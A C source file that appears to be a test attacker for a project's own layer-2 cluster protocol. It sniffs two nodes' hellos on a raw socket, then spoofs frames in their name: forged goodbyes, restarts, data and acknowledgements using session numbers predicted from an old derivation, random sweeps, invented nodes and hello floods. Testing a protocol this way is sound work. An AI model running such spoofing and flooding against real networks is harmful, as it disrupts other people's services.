/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * An attacker on the segment: it reads what is broadcast, and sends frames with others' addresses.
 *
 *   attacker KIND VICTIM AS [COUNT]
 *
 *   - bye       broadcast goodbyes of node AS, with its epoch
 *   - unibye    the same to VICTIM alone
 *   - restart   a broadcast hello of AS with another epoch
 *   - life      a unicast hello of AS with its epoch, and another nonce
 *   - data      empty CONTROL frames of AS, of the session that would follow from the epochs alone,
 *               with its first 4,096 sequence numbers
 *   - ack       acknowledgements of that session, of as many numbers
 *   - sweep     empty CONTROL frames of AS with random sessions and sequence numbers
 *   - invent    unicast hellos of COUNT nodes that do not exist
 *   - flood     broadcast hellos, each of a new node
 *
 * It waits until it has received both nodes' hellos. COUNT: frames to send (1; data, ack: 4,096).
 * Prints "sent N".
 */
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "proto/frame.h"
#include "proto/wire.h"

/*
 * Frames a millisecond, a third of a port of 20 Mbit/s: a flood that fills a port starves anybody.
 */
#define BURST 10u

struct node {
	bool known;
	uint8_t mac[6];
	uint64_t epoch;
	uint32_t mtu;
};

static int fail(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	return 1;
}

static int open_socket(void)
{
	struct sockaddr_ll a = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(0x88b5),
		.sll_ifindex = (int)if_nametoindex("eth0"),
	};
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

/* Only broadcasts count. False: nothing was heard for ten seconds. */
static bool listen_for(int s, const char *const names[2], struct node nodes[2])
{
	struct pollfd p = { .fd = s, .events = POLLIN };

	while (!nodes[0].known || !nodes[1].known) {
		uint8_t f[2048];
		struct cn_wire w;
		struct cn_hello h;
		ssize_t n;

		if (poll(&p, 1, 10000) != 1) {
			return false;
		}
		n = recv(s, f, sizeof(f), 0);
		if (n < CN_HEAD || f[0] != 0xff ||
		    cn_wire_get(f + CN_ETH_HEADER, (size_t)n - CN_ETH_HEADER, 1, &w) !=
			    CN_WIRE_OK ||
		    w.type != CN_TYPE_HELLO || !cn_hello_get(f + CN_HEAD, w.length, &h)) {
			continue;
		}
		for (int i = 0; i < 2; i++) {
			if (strcmp(h.name, names[i]) == 0) {
				memcpy(nodes[i].mac, f + 6, 6);
				nodes[i].epoch = h.epoch;
				nodes[i].mtu = h.mtu;
				nodes[i].known = true;
			}
		}
	}
	return true;
}

/* As it was in version 0.1: epochs and small counters of incarnations, here 0. */
static uint32_t old_session(uint64_t a, uint64_t b)
{
	uint64_t x = cn_mix64(cn_mix64(cn_mix64(a)) + cn_mix64(b ^ 0x5bd1e995));
	uint32_t s = (uint32_t)(cn_mix64(x) >> 32);

	return s != 0 ? s : 1;
}

static size_t build(const char *kind, const struct node *to, const struct node *as,
		    const char *name, uint32_t i, uint8_t *f)
{
	bool hello = true, unicast = true;
	struct cn_wire w = { .type = CN_TYPE_HELLO, .cluster = 1 };
	struct cn_hello h = { .epoch = as->epoch, .mtu = as->mtu };
	uint64_t random = i;

	memset(f, 0, CN_FRAME_HEAD);
	memcpy(f + 6, as->mac, 6);
	snprintf(h.name, sizeof(h.name), "%s", name);
	if (strcmp(kind, "bye") == 0) {
		w.flags = CN_FLAG_BYE;
		unicast = false;
	} else if (strcmp(kind, "unibye") == 0) {
		w.flags = CN_FLAG_BYE | CN_FLAG_UNICAST;
	} else if (strcmp(kind, "restart") == 0) {
		h.epoch += 1 + i;
		unicast = false;
	} else if (strcmp(kind, "life") == 0) {
		w.flags = CN_FLAG_UNICAST;
		h.nonce = 1 + i;
	} else if (strcmp(kind, "invent") == 0 || strcmp(kind, "flood") == 0) {
		h.epoch = 1 + i;
		h.nonce = kind[0] == 'i' ? 0 : 1;
		w.flags = kind[0] == 'i' ? CN_FLAG_UNICAST : CN_FLAG_SOLICIT;
		unicast = kind[0] == 'i';
		f[6] = 0x0a;
		f[7] = 0;
		memcpy(f + 8, &i, 4);
		snprintf(h.name, sizeof(h.name), "x%u", i);
	} else {
		hello = false;
		w.session = old_session(as->epoch, to->epoch);
		w.type = strcmp(kind, "ack") == 0 ? CN_TYPE_ACK : CN_TYPE_CONTROL;
		w.seq = (uint32_t)cn_mix64(w.session) + i;
		w.ack = (uint32_t)cn_mix64(old_session(to->epoch, as->epoch)) + i;
		if (strcmp(kind, "sweep") == 0) {
			w.session = (uint32_t)cn_random(&random);
			w.seq = (uint32_t)cn_random(&random);
			w.ack = (uint32_t)cn_random(&random);
		}
	}
	memset(f, 0xff, 6);
	if (unicast) {
		memcpy(f, to->mac, 6);
	}
	f[12] = 0x88;
	f[13] = 0xb5;
	w.length = hello ? (uint16_t)cn_hello_put(f + CN_HEAD, &h) : 0;
	cn_wire_put(f + CN_ETH_HEADER, &w);
	return CN_HEAD + (size_t)w.length < CN_ETH_MIN ? CN_ETH_MIN : CN_HEAD + (size_t)w.length;
}

int main(int argc, char **argv)
{
	struct node nodes[2] = { { 0 }, { 0 } };
	uint64_t count, sent = 0;
	int s;

	if (argc < 4 || argc > 5) {
		fprintf(stderr, "usage: attacker KIND VICTIM AS [COUNT]\n");
		return 2;
	}
	count = argc == 5 ? strtoull(argv[4], NULL, 10) : 1;
	s = open_socket();
	if (s < 0) {
		return fail("socket");
	}
	if (!listen_for(s, (const char *const[]){ argv[2], argv[3] }, nodes)) {
		fprintf(stderr, "attacker: no hellos of %s and %s\n", argv[2], argv[3]);
		return 1;
	}
	while (sent < count) {
		const struct timespec pause = { .tv_nsec = 1000000 };
		uint8_t f[CN_FRAME_HEAD];
		size_t len = build(argv[1], &nodes[0], &nodes[1], argv[3], (uint32_t)sent, f);
		struct pollfd p = { .fd = s, .events = POLLOUT };

		if (send(s, f, len, 0) == (ssize_t)len) {
			if (++sent % BURST == 0) {
				nanosleep(&pause, NULL);
			}
		} else if (errno == ENOBUFS || errno == EAGAIN) {
			poll(&p, 1, 1);
		} else {
			return fail("send");
		}
	}
	printf("sent %llu\n", (unsigned long long)sent);
	close(s);
	return 0;
}
